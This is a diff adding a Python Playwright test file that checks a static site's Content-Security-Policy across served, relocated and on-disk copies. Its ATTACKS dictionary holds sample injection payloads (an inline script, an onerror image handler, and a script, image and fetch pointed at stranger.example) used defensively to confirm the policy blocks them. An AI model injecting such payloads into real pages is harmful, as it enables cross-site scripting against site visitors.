@@ -1,0 +1,125 @@
+"""Pages load and run only what the site brings: over HTTP, anywhere, and from disk."""
+
+import functools
+import http.server
+import re
+import threading
+
+import pytest
+from policy import policy
+
+from tests.site import browser as site
+
+WATCH = """
+window.blocked = [];
+addEventListener("securitypolicyviolation", (event) =>
+  window.blocked.push(`${event.effectiveDirective} ${event.blockedURI}`));
+"""
+PLACES = ["published", "elsewhere", "disk"]
+
+
+@pytest.fixture(scope="module")
+def elsewhere(tmp_path_factory):
+    """Address of the site in another folder of another server."""
+    top = tmp_path_factory.mktemp("server")
+    (top / "a folder").mkdir()
+    (top / "a folder" / "book").symlink_to(site.HTML)
+
+    class Quiet(http.server.SimpleHTTPRequestHandler):
+        def log_message(self, *arguments) -> None:
+            """Say nothing."""
+
+    handler = functools.partial(Quiet, directory=str(top))
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}/a%20folder/book/"
+        server.shutdown()
+
+
+@pytest.fixture
+def address(base, elsewhere):
+    """Return the address of a page in a place."""
+    starts = {
+        "published": base,
+        "elsewhere": elsewhere,
+        "disk": f"{site.HTML.as_uri()}/",
+    }
+    return lambda place, name: f"{starts[place]}{name}"
+
+
+@pytest.fixture
+def watched(browser):
+    """A page that notes what its policy blocks and what the console says."""
+    context = browser.new_context()
+    context.add_init_script(WATCH)
+    page = context.new_page()
+    page.said = []
+    page.on("console", lambda m: page.said.append(m.text) if m.type == "error" else 0)
+    page.on("pageerror", lambda error: page.said.append(str(error)))
+    yield page
+    context.close()
+
+
+@pytest.mark.parametrize("place", PLACES)
+def test_nothing_of_the_site_is_blocked(place, name, address, watched):
+    if name == "404" and place != "published":
+        return  # it stands for any address, so it knows where the site is published
+    watched.goto(address(place, f"{name}.html"))
+    site.open_everything(watched)
+    watched.wait_for_timeout(50)
+    blocked = watched.evaluate("window.blocked") + watched.said
+    assert not blocked, (
+        f"Bring these with the site, or see book/_ext/policy.py: {blocked[:3]}"
+    )
+
+
+@pytest.mark.parametrize("place", PLACES)
+def test_search_finds_by_keyboard(place, address, watched, lecture_page):
+    watched.goto(address(place, f"{lecture_page}.html"))
+    watched.keyboard.press("/")
+    watched.keyboard.type("model")
+    watched.keyboard.press("Enter")
+    watched.locator("#search-results li > a").first.wait_for(timeout=10_000)
+    watched.locator(".search-summary:not(:empty)").wait_for(timeout=10_000)
+    blocked = watched.evaluate("window.blocked") + watched.said
+    assert not blocked, f"The search does not work from {place}: {blocked[:3]}"
+
+
+ATTACKS = {
+    "script in the page": "document.body.append(Object.assign("
+    "document.createElement('script'), {textContent: 'window.harm = true'}))",
+    "handler in the page": "document.body.insertAdjacentHTML('beforeend',"
+    '\'<img src="data:," onerror="window.harm = true">\')',
+    "script from elsewhere": "document.body.append(Object.assign("
+    "document.createElement('script'), {src: 'http://stranger.example/x.js'}))",
+    "picture from elsewhere": "document.body.append(Object.assign("
+    "document.createElement('img'), {src: 'http://stranger.example/x.png'}))",
+    "request to elsewhere": "void fetch('http://stranger.example/').catch(() => 0)",
+}
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("place", ["published", "disk"])
+def test_what_is_not_the_sites_own_is_blocked(place, attack, address, watched):
+    watched.goto(address(place, "index.html"))
+    watched.evaluate(f"() => {{ {ATTACKS[attack]} }}")
+    watched.wait_for_timeout(200)
+    assert watched.evaluate("window.blocked"), (
+        f"{attack} was not blocked: the page has no policy, or one that is too wide; "
+        "see book/_ext/policy.py"
+    )
+    assert not watched.evaluate("Boolean(window.harm)")
+
+
+def test_policy_stands_before_all_it_is_for(name):
+    head = (site.HTML / f"{name}.html").read_text().partition("</head>")[0]
+    place = head.find("Content-Security-Policy")
+    assert place > 0, "The page has no policy; see book/_templates/layout.html"
+    loaded = [found.start() for found in re.finditer(r"<script|<link|<style", head)]
+    assert place < min(loaded), "Scripts and styles before the policy escape it"
+
+
+def test_only_known_scripts_are_allowed():
+    text = policy(["one()", "two()"])
+    assert text.count("'sha256-") == 2
+    assert "unsafe-inline" not in re.search(r"script-src[^;]*", text)[0]
